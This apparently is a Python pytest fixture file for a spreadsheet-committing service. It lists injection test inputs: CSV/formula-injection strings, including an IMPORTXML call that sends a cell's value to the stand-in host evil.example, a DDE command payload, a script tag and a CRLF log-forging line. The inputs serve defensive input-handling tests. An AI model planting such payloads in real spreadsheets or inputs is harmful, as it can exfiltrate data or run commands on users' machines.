"""A service in this process, and a spreadsheet that it knows."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from local.launch import LocalGoogle
from server.sheets.commit.committer import Committer
from tests.service import Service, serving

EVIL = (
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    '=HYPERLINK("https://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "{=1+1}",
    "<script>alert(1)</script>",
    "a\r\nERROR forged line",
)
"""Texts that a spreadsheet, a csv reader, a page or a log could take for more than text."""


@pytest.fixture
def service(google: LocalGoogle, committer: Committer) -> Iterator[Service]:
    with serving(google, committer) as running:
        yield running
